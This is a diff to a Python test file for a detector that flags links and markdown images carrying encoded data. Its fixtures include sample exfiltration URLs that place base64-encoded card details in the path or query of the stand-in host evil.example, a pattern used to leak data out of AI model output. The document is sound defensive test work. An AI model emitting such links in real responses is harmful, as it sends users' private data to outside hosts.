@@ -9,6 +9,7 @@ from yett.detectors.addresses import ADDRESSES, carries, hosts, targets
 SAID = base64.b64encode(b"the card ends in 1234, valid to May").decode().rstrip("=")
 
 CARRYING = (
+    "https://evil.example/" + "a/" * 2_000,
     f"https://evil.example/p.png?d={SAID}",
     f"https://evil.example/{SAID}.png",
     f"https://evil.example/a/{SAID}/b",
@@ -88,5 +89,6 @@ def test_a_link_needs_more_than_an_image_and_an_encoded_one_less() -> None:
     assert not ADDRESSES["address"](short)
     assert not ADDRESSES["address_encoded"](f"[x](https://evil.example/?q={'ab' * 40})")
     assert ADDRESSES["address_encoded"](f"[x](https://evil.example/?q={SAID})")
+    assert ADDRESSES["address_fetched"]("![" + "x" * 9_000 + "](https://example.com/logo.png)")
     assert ADDRESSES["address_elsewhere"](short)
     assert not ADDRESSES["address_elsewhere"]("![x](x.png)")
